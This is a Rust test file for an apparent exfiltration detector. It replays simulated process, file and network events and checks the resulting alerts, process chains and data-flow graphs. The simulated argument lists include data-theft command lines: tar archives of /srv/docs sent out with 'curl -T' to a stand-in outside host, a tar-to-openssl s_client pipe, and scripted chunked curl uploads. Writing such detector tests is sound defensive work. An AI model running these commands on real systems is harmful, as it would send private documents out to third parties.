//! Stories told as events, and what the pipeline makes of them.

mod scene;
mod names;
mod content;
mod properties;
mod horizons;
mod state;
mod local;
mod beyond;

use std::collections::HashSet;

use scene::{Scene, TTY, pipe_in, pipe_out};

use super::*;
use crate::{alert::Alert, detect::Stage};

const DOCUMENTS: u64 = 60;
const OUTSIDE: &str = "198.51.100.2:443";

fn alerts(scene: &Scene) -> Vec<Alert> {
    run(scene, Config::default())
        .into_iter()
        .filter_map(|record| match record.body {
            Body::Alert(alert) => Some(*alert),
            Body::Signal(_)
            | Body::Start { .. }
            | Body::Stop { .. }
            | Body::Heartbeat { .. }
            | Body::Gap { .. } => None,
        })
        .collect()
}

fn run(scene: &Scene, config: Config) -> Vec<Record> {
    let mut pipeline = Pipeline::new(config);
    let mut out = Vec::new();
    for event in &scene.events {
        pipeline.step(event, &mut out);
    }
    out
}

fn ids(alerts: &[Alert]) -> HashSet<&str> {
    alerts.iter().map(|alert| alert.id.as_str()).collect()
}

fn chain(alert: &Alert) -> Vec<String> {
    alert.chain.iter().map(|link| String::from_utf8_lossy(link.process.name()).into_owned()).collect()
}

fn read_documents(scene: &mut Scene, pid: u32) {
    for number in 0..DOCUMENTS {
        scene.read(pid, 1_000 + number, &format!("/srv/docs/{number}.pdf"), 200_000);
    }
}

/// A script packs documents and sends the archive with `tool`.
fn archive_and_send(scene: &mut Scene, tool: &str, argv: &[&str], bytes: u64) {
    scene.spawn(10, 100, "/bin/dash", &["sh", "/root/exfil.sh"]);
    scene.spawn(100, 101, "/usr/bin/tar", &["tar", "-czf", "/var/tmp/a.tar.gz", "/srv/docs"]);
    scene.write(101, 9_000, "/var/tmp/a.tar.gz");
    read_documents(scene, 101);
    scene.exit(101);
    scene.spawn(100, 102, tool, argv);
    scene.read(102, 9_000, "/var/tmp/a.tar.gz", 12_000_000);
    scene.connect(102, 7, OUTSIDE);
    scene.send(102, 7, OUTSIDE, bytes, 500_000);
}

/// The same with curl, all of it.
fn archive_and_upload(scene: &mut Scene) {
    archive_and_send(scene, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE], 12_050_000);
}

/// Two children of `parent`, one after the other: what the first packs the second sends.
fn pack_and_send(scene: &mut Scene, parent: u32) {
    scene.spawn(parent, 101, "/usr/bin/tar", &["tar", "-cf", "/opt/b", "/srv/docs"]);
    scene.write(101, 9_000, "/opt/b");
    read_documents(scene, 101);
    scene.exit(101);
    scene.spawn(parent, 102, "/opt/own-sender", &["own-sender"]);
    scene.read(102, 9_000, "/opt/b", 12_000_000);
    scene.send(102, 7, OUTSIDE, 12_050_000, 500_000);
    scene.stop();
}

#[test]
fn an_archive_that_is_uploaded_is_one_alert_that_names_everybody() {
    let rows: &[(&str, &[&str])] = &[
        ("/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", "http://198.51.100.2:443/"]),
        ("/tmp/x", &["x", "-T", "/var/tmp/a.tar.gz", "http://198.51.100.2:443/"]),
        ("/opt/own-sender", &["own-sender"]),
    ];
    for (tool, argv) in rows {
        let mut scene = Scene::new();
        archive_and_send(&mut scene, tool, argv, 12_050_000);
        scene.stop();
        let alerts = alerts(&scene);
        assert_eq!(ids(&alerts).len(), 1, "{tool}");
        let (first, last) = (alerts.first().unwrap(), alerts.last().unwrap());
        assert_eq!((first.action, last.action), (Action::Opened, Action::Closed), "{tool}");
        assert_eq!(first.process.key.pid, 102, "{tool}");
        assert!((5_000_000..5_600_000).contains(&first.bytes_out), "{tool}: {}", first.bytes_out);
        assert_eq!(last.bytes_out, 12_050_000, "{tool}");
        assert_eq!(last.bytes_collected, DOCUMENTS * 200_000, "{tool}");
        let sender = tool.rsplit('/').next().unwrap();
        assert_eq!(chain(last), ["init", "dash", "tar", sender], "{tool}");
        assert_eq!(last.files.first().unwrap().path, "/var/tmp/a.tar.gz".into(), "{tool}");
        assert_eq!(last.destinations.first().unwrap().remote, OUTSIDE.parse().unwrap(), "{tool}");
        let revisions: Vec<u32> = alerts.iter().map(|alert| alert.revision).collect();
        let expected: Vec<u32> = (1..).take(alerts.len()).collect();
        assert_eq!(revisions, expected, "{tool}");
    }
}

#[test]
fn a_pipe_into_a_sender_is_one_story() {
    let mut scene = Scene::new();
    scene.spawn(10, 100, "/bin/dash", &["sh", "-c", "tar cf - docs | openssl s_client"]);
    scene.spawn_with(100, 102, "/usr/bin/openssl", &["openssl", "s_client", "-connect", OUTSIDE], pipe_in(5));
    scene.spawn_with(100, 101, "/usr/bin/tar", &["tar", "cf", "-", "/srv/docs"], pipe_out(5));
    for number in 0..DOCUMENTS {
        scene.read(101, 1_000 + number, &format!("/srv/docs/{number}.docx"), 200_000);
    }
    scene.connect(102, 7, OUTSIDE);
    scene.send(102, 7, OUTSIDE, 12_400_000, 500_000);
    scene.stop();
    let alerts = alerts(&scene);
    assert_eq!(ids(&alerts).len(), 1);
    let last = alerts.last().unwrap();
    assert_eq!(last.process.key.pid, 102);
    assert!(chain(last).contains(&"tar".to_owned()));
    assert_eq!(last.bytes_collected, 12_000_000);
}

/// A web server that stood before the agent serves two requests.
#[test]
fn the_chain_shows_who_launched_its_stories() {
    let mut scene = Scene::new();
    scene.seen(1, 60, "/usr/bin/php");
    pack_and_send(&mut scene, 60);
    let alerts = alerts(&scene);
    let last = alerts.last().unwrap();
    assert_eq!(chain(last), ["php", "tar", "own-sender"]);
    let launchers: Vec<bool> = last.chain.iter().map(|link| link.launcher).collect();
    assert_eq!(launchers, [true, false, false]);
}

/// Sixty children of one parent read a document each: the parent has its place all the same.
#[test]
fn a_crowd_leaves_no_gap_in_the_chain() {
    let mut scene = Scene::new();
    scene.spawn(10, 100, "/bin/dash", &["sh", "/root/all.sh"]);
    scene.spawn(100, 101, "/usr/bin/xargs", &["xargs", "-P", "6", "curl"]);
    for child in 0..60_u32 {
        let (pid, number) = (200 + child, u64::from(child));
        scene.spawn(101, pid, "/usr/bin/curl", &["curl", "-T", "x", OUTSIDE]);
        scene.read(pid, 1_000 + number, &format!("/srv/docs/{number}.pdf"), 200_000);
        scene.send(pid, 7 + number, OUTSIDE, 200_100, 200_100);
    }
    scene.stop();
    let alerts = alerts(&scene);
    let last = alerts.last().unwrap();
    assert!(last.chain.len() > 16, "{}", last.chain.len());
    for link in last.chain.iter().skip(1) {
        let parent = link.process.parent;
        assert!(last.chain.iter().any(|other| Some(other.process.key) == parent), "{:?}", link.process.key);
    }
}

#[test]
fn data_connects_two_commands_typed_one_after_the_other() {
    let mut scene = Scene::new();
    scene.spawn_with(10, 50, "/bin/bash", &["bash"], [TTY; 3]);
    pack_and_send(&mut scene, 50);
    let alerts = alerts(&scene);
    assert_eq!(ids(&alerts).len(), 1);
    assert!(chain(alerts.last().unwrap()).contains(&"tar".to_owned()));
}

#[test]
fn many_short_senders_of_one_script_are_one_story() {
    let mut scene = Scene::new();
    scene.spawn(10, 100, "/bin/dash", &["sh", "/root/chunks.sh"]);
    scene.spawn(100, 101, "/usr/bin/tar", &["tar", "-cf", "/var/tmp/b", "/srv/docs"]);
    scene.write(101, 9_000, "/var/tmp/b");
    read_documents(&mut scene, 101);
    scene.exit(101);
    for pid in 200..700 {
        scene.spawn(100, pid, "/usr/bin/curl", &["curl", "-d", "@-", "http://198.51.100.2:443/"]);
        scene.connect(pid, u64::from(pid), OUTSIDE);
        scene.send(pid, u64::from(pid), OUTSIDE, 20_000, 20_000);
        scene.exit(pid);
    }
    scene.stop();
    let alerts = alerts(&scene);
    assert_eq!(ids(&alerts).len(), 1);
    assert_eq!(alerts.last().unwrap().bytes_out, 10_000_000);
}

#[test]
fn honest_work_wakes_nobody() {
    type Tell = fn(&mut Scene);
    let rows: &[(&str, Tell)] = &[
        ("a page", |scene| {
            scene.spawn(10, 100, "/usr/bin/curl", &["curl", "http://198.51.100.2/"]);
            scene.connect(100, 7, "198.51.100.2:80");
            scene.send(100, 7, "198.51.100.2:80", 100, 100);
        }),
        ("a local backup", |scene| {
            scene.spawn(10, 100, "/usr/bin/tar", &["tar", "-czf", "/var/tmp/home.tgz", "/home"]);
            scene.write(100, 9_000, "/var/tmp/home.tgz");
            for number in 0..DOCUMENTS {
                scene.read(100, 1_000 + number, &format!("/home/a/{number}.pdf"), 200_000);
            }
        }),
        ("a backup to an inside host", |scene| {
            archive_and_send(scene, "/usr/bin/sleep", &["sleep"], 0);
            scene.spawn(10, 200, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", "http://10.0.0.2/"]);
            scene.read(200, 9_000, "/var/tmp/a.tar.gz", 12_000_000);
            scene.connect(200, 9, "10.0.0.2:80");
            scene.send(200, 9, "10.0.0.2:80", 12_000_000, 500_000);
        }),
        ("everything made ready, nothing sent", |scene| {
            archive_and_send(
                scene,
                "/usr/bin/curl",
                &["curl", "-T", "/var/tmp/a.tar.gz", "http://198.51.100.2/"],
                300,
            );
        }),
        ("a push of a repository", |scene| {
            scene.spawn(10, 100, "/usr/bin/git", &["git", "push"]);
            scene.spawn(100, 101, "/usr/lib/git-core/git-remote-https", &["git-remote-https", "origin"]);
            scene.connect(101, 7, OUTSIDE);
            scene.send(101, 7, OUTSIDE, 30_000_000, 1_000_000);
        }),
        ("documents served to those who ask", |scene| {
            scene.spawn(10, 100, "/usr/sbin/nginx", &["nginx"]);
            for number in 0..DOCUMENTS {
                scene.read(100, 1_000 + number, &format!("/srv/www/{number}.pdf"), 200_000);
            }
            scene.accept(100, 7, "198.51.100.2:50000", 12_000_000);
        }),
    ];
    for (name, tell) in rows {
        let mut scene = Scene::new();
        tell(&mut scene);
        scene.stop();
        assert_eq!(ids(&alerts(&scene)), HashSet::new(), "{name}");
    }
}

#[test]
fn a_trust_rule_covers_its_volume_and_no_more() {
    for (cap, expected) in [("", 0), ("daily_bytes = 4000000\n", 1)] {
        let text = format!("[[trust]]\nname = \"backup\"\ndestinations = [\"198.51.100.0/24\"]\n{cap}");
        let config = Config::parse(&text, "test.toml").unwrap();
        let mut scene = Scene::new();
        archive_and_upload(&mut scene);
        scene.stop();
        let opened = run(&scene, config)
            .iter()
            .filter(|record| matches!(&record.body, Body::Alert(alert) if alert.action == Action::Opened))
            .count();
        assert_eq!(opened, expected, "{cap}");
    }
}

#[test]
fn an_alert_closes_when_its_story_is_quiet_and_a_late_one_is_new() {
    let mut scene = Scene::new();
    archive_and_upload(&mut scene);
    scene.wait(3_600);
    scene.tick();
    let lines = alerts(&scene);
    assert_eq!(lines.last().unwrap().action, Action::Closed);
    assert_eq!(ids(&lines).len(), 1);
}

#[test]
fn a_transfer_that_passes_a_size_on_its_way_proves_nothing() {
    for (bytes, expected) in [(12_050_000, 1), (100_000_000, 0)] {
        let mut scene = Scene::new();
        scene.spawn(10, 100, "/usr/bin/python3", &["python3", "up.py"]);
        read_documents(&mut scene, 100);
        scene.send(100, 7, OUTSIDE, bytes, 500_000);
        scene.stop();
        assert_eq!(ids(&alerts(&scene)).len(), expected, "{bytes}");
    }
}

#[test]
fn a_second_theft_of_the_same_data_is_told_at_once() {
    let mut scene = Scene::new();
    archive_and_upload(&mut scene);
    scene.spawn(10, 300, "/opt/other", &["other"]);
    scene.read(300, 9_000, "/var/tmp/a.tar.gz", 12_000_000);
    scene.send(300, 9, OUTSIDE, 12_050_000, 500_000);
    scene.stop();
    let lines = alerts(&scene);
    assert_eq!(ids(&lines).len(), 1);
    assert!(lines.iter().any(|line| line.action == Action::Updated && line.process.key.pid == 300));
    let last = lines.last().unwrap();
    assert_eq!(last.bytes_out, 24_100_000);
    assert!(chain(last).contains(&"other".to_owned()) && chain(last).contains(&"curl".to_owned()));
}

#[test]
fn a_closed_alert_opens_again_only_on_news() {
    for (bytes, expected) in [(3_000, 1), (12_050_000, 2)] {
        let mut scene = Scene::new();
        archive_and_upload(&mut scene);
        scene.wait(900);
        scene.tick();
        scene.spawn(100, 103, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE]);
        scene.read(103, 9_000, "/var/tmp/a.tar.gz", 12_000_000);
        scene.send(103, 9, OUTSIDE, bytes, 500_000);
        scene.stop();
        assert_eq!(ids(&alerts(&scene)).len(), expected, "{bytes}");
    }
}

#[test]
fn a_socket_that_is_used_again_after_its_close_counts_once() {
    let mut scene = Scene::new();
    scene.spawn(10, 100, "/usr/bin/client", &["client"]);
    scene.connect(100, 7, OUTSIDE);
    scene.close(7);
    scene.connect(100, 7, OUTSIDE);
    scene.send(100, 7, OUTSIDE, 1_000_000, 500_000);
    scene.wait(60);
    scene.tick();
    scene.snapshot(100, 7, OUTSIDE, 1_500_000);
    let mut pipeline = Pipeline::new(Config::default());
    for event in &scene.events {
        pipeline.step(event, &mut Vec::new());
    }
    assert_eq!(pipeline.totals().bytes_out, 1_500_000);
}

#[test]
fn a_socket_whose_close_is_told_twice_leaves_nothing_behind() {
    let mut scene = Scene::new();
    scene.spawn(10, 100, "/usr/bin/client", &["client"]);
    scene.connect(100, 7, OUTSIDE);
    scene.close(7);
    scene.close(7);
    scene.wait(60);
    scene.tick();
    let mut pipeline = Pipeline::new(Config::default());
    for event in &scene.events {
        pipeline.step(event, &mut Vec::new());
    }
    assert_eq!(pipeline.totals().flows, 0);
}

#[test]
fn the_numbers_in_an_alert_recompute_its_score() {
    let mut scene = Scene::new();
    archive_and_upload(&mut scene);
    scene.stop();
    for alert in alerts(&scene) {
        let again = crate::score::formula::judge(alert.verdict.signals.clone());
        assert!((again.score - alert.verdict.score).abs() < 1e-9);
        assert!(alert.verdict.stages.iter().any(|(stage, _)| *stage == Stage::Egress));
    }
}

#[test]
fn events_in_any_order_and_about_nobody_do_no_harm() {
    let mut scene = Scene::new();
    archive_and_upload(&mut scene);
    scene.stop();
    scene.events.reverse();
    let mut pipeline = Pipeline::new(Config::default());
    let mut out = Vec::new();
    for event in &scene.events {
        pipeline.step(event, &mut out);
    }
    assert_eq!(pipeline.totals().events, scene.events.len() as u64);
}

/// Each edge as words, by time.
fn edges(alert: &Alert) -> Vec<String> {
    use crate::alert::graph::Node;
    let graph = &alert.graph;
    let name = |index: usize| match &graph.nodes[index] {
        Node::Process(key) => format!("pid {}", key.pid),
        Node::File { path, .. } => path.to_string(),
        Node::Files { place, count, .. } => format!("{count} below {place}"),
        Node::Pipe(ino) => format!("pipe {ino}"),
        Node::Socket(hop) => format!("{hop:?}"),
        Node::Destination { remote, .. } => remote.to_string(),
    };
    let words = |edge: &crate::alert::graph::Edge| {
        let bytes = edge.bytes.map_or(String::new(), |bytes| format!(" {bytes}"));
        format!("{} {:?}{bytes} {}", name(edge.from), edge.kind, name(edge.to)).to_lowercase()
    };
    graph.edges.iter().filter(|edge| edge.kind.moves_data()).map(words).collect()
}

#[test]
fn the_graph_shows_the_way_of_the_data() {
    let mut archive = Scene::new();
    archive_and_upload(&mut archive);
    archive.stop();
    let mut piped = Scene::new();
    piped.spawn(10, 100, "/bin/dash", &["sh", "/root/exfil.sh"]);
    piped.spawn_with(100, 101, "/usr/bin/tar", &["tar", "-cz", "/srv/docs"], pipe_out(55));
    let curl = ["curl", "-T", "-", "http://198.51.100.2:443/"];
    piped.spawn_with(100, 102, "/usr/bin/curl", &curl, pipe_in(55));
    read_documents(&mut piped, 101);
    piped.connect(102, 7, OUTSIDE);
    piped.send(102, 7, OUTSIDE, 12_050_000, 500_000);
    piped.stop();
    let documents: &[&str] = &["60 below /srv/docs read 12000000 pid 101"];
    let rows: [(&Scene, &[&str], &[&str]); 2] = [
        (
            &archive,
            &["pid 101 wrote 12000000 /var/tmp/a.tar.gz"],
            &["/var/tmp/a.tar.gz read 12000000 pid 102", "pid 102 sent 12050000 198.51.100.2:443"],
        ),
        (
            &piped,
            &["pid 101 piped pipe 55", "pipe 55 piped pid 102"],
            &["pid 102 sent 12050000 198.51.100.2:443"],
        ),
    ];
    for (scene, before, after) in rows {
        let alerts = alerts(scene);
        let last = alerts.last().unwrap();
        assert_eq!(edges(last), [before, documents, after].concat());
        assert_eq!((last.graph.nodes_left_out, last.graph.edges_left_out), (0, 0));
        let tar = last.chain.iter().find(|link| link.process.name() == b"tar").unwrap();
        assert_eq!((tar.read.count, tar.read.bytes, tar.read.files.len()), (60, 12_000_000, 16));
    }
}
